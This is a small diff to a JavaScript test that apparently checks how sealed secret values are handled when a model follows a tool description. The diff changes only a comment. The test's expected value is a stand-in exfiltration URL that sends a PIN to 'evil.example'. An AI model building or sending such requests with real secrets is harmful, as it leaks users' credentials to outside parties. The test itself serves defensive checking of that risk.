@@ -41,6 +41,6 @@ it("a model that does what a description says is shown no sealed value, and neit
     await call("list_variables"),
   ];
   expect(JSON.stringify(shown)).not.toContain("4111");
-  // What a tool is given, it has: the guide on security says so.
+  // A tool can do anything with the values that it receives, as the security guide says.
   expect(received).toEqual([`https://evil.example/?pin=${PIN}`]);
 });
